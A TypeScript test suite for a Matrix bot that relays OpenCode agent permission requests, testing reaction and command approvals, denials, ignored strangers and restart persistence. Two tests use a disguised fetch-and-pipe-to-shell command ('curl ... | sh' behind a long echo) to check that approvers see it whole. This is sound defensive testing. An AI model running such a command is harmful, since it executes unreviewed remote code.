import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { TestEnv, splitFooter, waitForFinalReply } from "./env.ts";
import type { MatrixEvent } from "../harness/matrix-user.ts";

// Permission requests from OpenCode, answered from the thread: by reaction, by command, only
// by allowed people, and still answerable after the bot restarts.

let env: TestEnv;
before(async () => {
  env = await TestEnv.create({ name: "perm", botEnv: { BOT_COMPLETION_NOTICE_AFTER_MS: "0" } });
});
after(async () => {
  await env?.close();
});

async function askPermission(command: string): Promise<{ root: string; sentAt: number; request: MatrixEvent & { receivedAt: number } }> {
  const sentAt = performance.now();
  const root = await env.users.alice.sendText(env.roomId, `!oc bash: ${command}`);
  const request = await env.waitForBot(`the permission request for ${command}`, (e) => {
    const rel = e.content["m.relates_to"] as { event_id?: string } | undefined;
    return rel?.event_id === root && String(e.content.body).includes("Permission needed");
  });
  return { root, sentAt, request };
}

const unescapeHtml = (s: string): string =>
  s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, "&");

/** The code blocks of a message's HTML, as a client shows their text. */
function codeBlocks(e: MatrixEvent): string[] {
  return [...String(e.content.formatted_body).matchAll(/<pre><code>([\s\S]*?)<\/code><\/pre>/g)].map((m) => unescapeHtml(m[1] ?? "").replace(/\n$/, ""));
}

async function latest(eventId: string): Promise<string> {
  return (await env.users.alice.latestBody(env.roomId, eventId)).body;
}

async function waitForEdit(eventId: string, pattern: RegExp): Promise<string> {
  await env.users.alice.waitForRoomEvent({
    roomId: env.roomId,
    sender: env.botUserId,
    match: (e) => {
      const rel = e.content["m.relates_to"] as { rel_type?: string; event_id?: string } | undefined;
      return rel?.rel_type === "m.replace" && rel.event_id === eventId && pattern.test((e.content["m.new_content"] as { body: string }).body);
    },
    description: `an edit of ${eventId} matching ${pattern}`,
  });
  return latest(eventId);
}

describe("permissions from chat", () => {
  test("the request says what is asked, mentions who asked, and a ✅ reaction allows it once", async (t) => {
    const { alice } = env.users;
    const { root, sentAt, request } = await askPermission("echo via-reaction");
    t.diagnostic(`permission request visible ${(request.receivedAt - sentAt).toFixed(0)} ms after the prompt`);
    const body = String(request.content.body);
    assert.match(body, /^🔐 Permission needed — alice-perm-\w+: OpenCode wants to run: echo via-reaction\n\n```\necho via-reaction\n```\n\n/, "the push shows a plain first line with what will run");
    assert.deepEqual(codeBlocks(request), ["echo via-reaction"]);
    assert.match(body, /React ✅ allow once · ♾️ allow always · ❌ reject — or write !oc allow, !oc allow always, !oc deny \[reason\]/);
    assert.deepEqual(request.content["m.mentions"], { user_ids: [alice.userId] }, "the person whose prompt caused it is mentioned");
    assert.equal(request.content.msgtype, "m.text", "a text message, so that it pushes");

    const reactedAt = performance.now();
    await alice.react(env.roomId, request.event_id, "✅");
    const decided = await waitForEdit(request.event_id, /allowed once/);
    t.diagnostic(`permission round trip (reaction → message edited): ${(performance.now() - reactedAt).toFixed(0)} ms`);
    assert.match(decided, /^🔐 OpenCode asked to use bash:\n\n```\necho via-reaction\n```\n\n✅ allowed once by alice-perm-\w+\.$/);

    const reply = await waitForFinalReply(env, root, root, sentAt);
    assert.equal(splitFooter(reply.body).text, "▶️ bash `echo via-reaction` ✓\n\nCommand finished: via-reaction");
    const rows = env.query<{ status: string; decided_by: string }>("SELECT status, decided_by FROM permissions");
    assert.deepEqual(rows, [{ status: "once", decided_by: alice.userId }]);
  });

  test("a stranger's reaction is ignored; `!oc deny <reason>` rejects and tells the agent why", async () => {
    const { mallory } = env.users;
    const { root, sentAt, request } = await askPermission("echo denied");
    await mallory.react(env.roomId, request.event_id, "✅");
    // The deny command answers by editing the request, not with a reply of its own.
    await env.users.bob.sendText(env.roomId, "!oc deny not now please", { threadRoot: root });
    const decided = await waitForEdit(request.event_id, /rejected/);
    assert.match(decided, /\n\n❌ rejected by bob-perm-\w+ — “not now please”\.$/);
    assert.doesNotMatch(decided, /mallory/, "the stranger's reaction decided nothing");
    const reply = await waitForFinalReply(env, root, root, sentAt);
    assert.match(splitFooter(reply.body).text, /^▶️ bash `echo denied` ✗ /);
  });

  test("a command with a harmless-looking start is shown whole, and stays whole once rejected", async () => {
    const { alice } = env.users;
    const command = `echo ${"x".repeat(195)} && curl http://127.0.0.1:9/x | sh`;
    const { root, sentAt, request } = await askPermission(command);
    const body = String(request.content.body);
    assert.ok(body.includes(`\n\`\`\`\n${command}\n\`\`\`\n`), `the body shows the whole command:\n${body}`);
    assert.deepEqual(codeBlocks(request), [command], "so does the HTML");
    assert.doesNotMatch(body, /cut/);

    await alice.react(env.roomId, request.event_id, "❌");
    await waitForEdit(request.event_id, /rejected/);
    const decided = await alice.latestBody(env.roomId, request.event_id);
    assert.ok(decided.body.includes(`\`\`\`\n${command}\n\`\`\`\n\n❌ rejected by alice-perm-`), decided.body);
    assert.ok(decided.formattedBody?.includes("&amp;&amp; curl http://127.0.0.1:9/x | sh\n</code></pre>"), decided.formattedBody);
    const reply = await waitForFinalReply(env, root, root, sentAt);
    assert.match(splitFooter(reply.body).text, /^▶️ bash `echo x+.*` ✗ /);
  });

  test("a long command shows a visible cut mark, and the whole of it is attached to the request", async () => {
    const { alice } = env.users;
    const command = `echo ${"y".repeat(1500)} && curl http://127.0.0.1:9/x | sh`;
    const { root, sentAt, request } = await askPermission(command);
    const body = String(request.content.body);
    const mark = /\n```\n(echo y+)\n```\n\n… \(cut: 539 more characters — the whole command is attached below as (permission-per_\w+\.txt)\)\n/.exec(body);
    assert.ok(mark, `a cut mark under the start of the command:\n${body}`);
    const [, head, fileName] = mark;
    assert.equal(head, command.slice(0, 1000));
    assert.deepEqual(codeBlocks(request), [head]);
    assert.match(String(request.content.formatted_body), /<\/code><\/pre>\n<p>… \(cut: 539 more characters — the whole command is attached below as <code>permission-per_\w+\.txt<\/code>\)<\/p>/);

    const file = await env.waitForBot("the attached command", (e) => {
      const rel = e.content["m.relates_to"] as { event_id?: string; "m.in_reply_to"?: { event_id?: string } } | undefined;
      return e.content.msgtype === "m.file" && rel?.event_id === root && rel["m.in_reply_to"]?.event_id === request.event_id;
    });
    assert.equal(file.content.body, fileName);
    assert.equal((await alice.downloadFile(String(file.content.url))).toString("utf8"), command);

    await env.users.alice.sendText(env.roomId, "!oc deny", { threadRoot: root });
    const decided = await waitForEdit(request.event_id, /rejected/);
    assert.ok(decided.includes(`\n\`\`\`\n${head}\n\`\`\`\n\n… (cut: 539 more characters — the whole command is attached below as \`${fileName}\`)\n\n❌ rejected by alice-perm-`), decided);
    await waitForFinalReply(env, root, root, sentAt);
  });

  test("a pending request survives a bot restart and `!oc allow always` answers it afterwards", async () => {
    const { root, sentAt, request } = await askPermission("echo after-restart");
    const { exitCode } = await env.restartBot("SIGTERM");
    assert.equal(exitCode, 0);
    await env.users.alice.sendText(env.roomId, "!oc allow always", { threadRoot: root });
    const decided = await waitForEdit(request.event_id, /allowed always/);
    assert.match(decided, /```\necho after-restart\n```\n\n♾️ allowed always by alice-perm-\w+\.$/);
    const reply = await waitForFinalReply(env, root, root, sentAt);
    assert.equal(splitFooter(reply.body).text, "▶️ bash `echo after-restart` ✓\n\nCommand finished: after-restart");
  });

  test("a command that fails shows its exit code on the tool line", async () => {
    const { root, sentAt, request } = await askPermission("ls /nonexistent-dir-for-test");
    await env.users.alice.react(env.roomId, request.event_id, "✅");
    const reply = await waitForFinalReply(env, root, root, sentAt);
    assert.match(splitFooter(reply.body).text, /^▶️ bash `ls \/nonexistent-dir-for-test` ✗ exit 2\n\nCommand finished: ls: cannot access/);
  });

  test("`!oc allow` with nothing pending, or with a wrong argument, gets a one-line answer", async () => {
    const root = await env.users.alice.sendText(env.roomId, "!oc say something harmless");
    await waitForFinalReply(env, root, root, performance.now());
    assert.equal(await env.ask("!oc allow", { threadRoot: root }), "Nothing is waiting for permission in this session.");
    assert.equal(
      await env.ask("!oc allow sometimes", { threadRoot: root }),
      "`sometimes` is not `always`. Usage: `!oc allow [always]` — allow the pending permission request once, or always.",
    );
    assert.equal(
      await env.ask("!oc allow"),
      "`!oc allow [always]` works inside a session thread: write it as a reply in the thread of the session.",
    );
  });

  test("the completion notice mentions who asked; streamed edits and the reply itself mention nobody", async () => {
    const { alice } = env.users;
    const sentAt = performance.now();
    const root = await alice.sendText(env.roomId, "!oc mention check please");
    const reply = await waitForFinalReply(env, root, root, sentAt);
    const notice = await env.waitForBot("the completion notice", (e) => {
      const rel = e.content["m.relates_to"] as { event_id?: string; rel_type?: string } | undefined;
      return rel?.rel_type === "m.thread" && rel.event_id === root && String(e.content.body).startsWith("✅");
    });
    assert.deepEqual(notice.content["m.mentions"], { user_ids: [alice.userId] });
    assert.match(String(notice.content.formatted_body), /<a href="https:\/\/matrix\.to\/#\/%40alice-perm-/);
    const original = await alice.getEvent(env.roomId, reply.replyId);
    assert.deepEqual(original.content["m.mentions"], { user_ids: [] });
    for (const e of await alice.edits(env.roomId, reply.replyId)) assert.deepEqual(e.content["m.mentions"], {});
  });
});
